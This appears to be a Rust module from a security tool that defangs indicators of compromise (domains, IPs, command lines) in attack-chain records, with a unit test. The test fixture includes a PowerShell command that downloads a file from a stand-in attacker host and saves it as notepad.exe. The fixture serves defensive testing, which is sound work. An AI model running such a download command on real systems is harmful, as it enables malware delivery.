//! Takes the bite out of the indicators that a chain and its timeline hold, by the rules of
//! [`clusters::defang`](crate::clusters::defang): the domains are those that the chain asked for.

use crate::clusters::defang::Known;
use crate::runtime::bindings::causality::{Chain, Row, Step};

use super::Traced;

/// The domains that a chain names.
#[must_use]
pub fn known(chain: &Chain) -> Known {
    let possible = chain.possible.iter().map(|of| &of.damage);
    let all = std::iter::once(&chain.damage).chain(possible);
    Known::names_of(all.flat_map(|damage| damage.domains.iter().cloned()).collect::<Vec<_>>())
}

/// Changes all that a chain shows.
pub fn chain(traced: &mut Traced) {
    let known = known(&traced.chain);
    for node in &mut traced.chain.nodes {
        node.command_line = node.command_line.take().map(|text| known.text(&text));
    }
    let led_by = traced.chain.led_by.iter_mut().flat_map(|lead| &mut lead.edges);
    for edge in traced.chain.edges.iter_mut().chain(led_by) {
        edge.reason = known.text(&edge.reason);
    }
    let possible = traced.chain.possible.iter_mut().map(|of| &mut of.damage);
    for damage in std::iter::once(&mut traced.chain.damage).chain(possible) {
        for text in damage.files.iter_mut().chain(&mut damage.registry) {
            *text = known.text(text);
        }
        for (kind, values) in [("address", &mut damage.addresses), ("domain", &mut damage.domains)] {
            for value in values {
                *value = known.value(kind, value);
            }
        }
    }
    for alert in traced.alerts.values_mut() {
        alert.alert_type = known.text(&alert.alert_type);
    }
}

/// Changes what steps show.
pub fn steps(known: &Known, steps: &mut [Step]) {
    for step in steps {
        step.what = match step.kind.as_str() {
            "dns-query" => known.value("domain", &step.what),
            _ => known.text(&step.what),
        };
    }
}

/// Changes what rows show, by the names of their columns.
pub fn rows(rows: &mut [Row]) {
    let hosts = rows.iter().flat_map(|row| &row.columns).filter(|(name, _)| name == "remote_host");
    let known = Known::names_of(hosts.map(|(_, value)| value.clone()).collect::<Vec<_>>());
    for (name, value) in rows.iter_mut().flat_map(|row| &mut row.columns) {
        *value = match name.as_str() {
            "remote_ip" | "local_ip" | "host_ip" => known.value("address", value),
            "remote_host" => known.value("domain", value),
            _ => known.text(value),
        };
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::chain::samples::story;

    #[test]
    fn nothing_of_a_chain_can_be_clicked() {
        let mut traced = story();
        traced.chain.nodes[1].command_line =
            Some("powershell iwr http://evil.example/a -o notepad.exe".into());
        traced.chain.edges[1].reason = "asked cdn.evil.example".into();
        traced.chain.possible[0].damage.addresses = vec!["198.51.100.9:80".into()];
        traced.chain.possible[0].damage.domains = vec!["worse.example".into()];
        traced.chain.edges[2].reason = "asked worse.example".into();
        chain(&mut traced);
        let of = &traced.chain;
        let line = of.nodes[1].command_line.as_deref();
        assert_eq!(line, Some("powershell iwr hxxp://evil[.]example/a -o notepad.exe"));
        assert_eq!(of.edges[1].reason, "asked cdn[.]evil[.]example");
        assert_eq!(of.damage.addresses, ["203[.]0[.]113[.]7[:]443"]);
        assert_eq!(of.damage.domains, ["evil[.]example"]);
        assert_eq!(of.possible[0].damage.addresses, ["198[.]51[.]100[.]9[:]80"]);
        assert_eq!(of.possible[0].damage.domains, ["worse[.]example"]);
        assert_eq!(of.edges[2].reason, "asked worse[.]example");
        assert_eq!(of.damage.files[0], "C:\\Users\\anna\\00.locked");
        let all = crate::chain::text::of(&traced);
        assert!(!all.contains("10.0.0.9") && all.contains("notepad.exe 4300"), "{all}");
    }
}
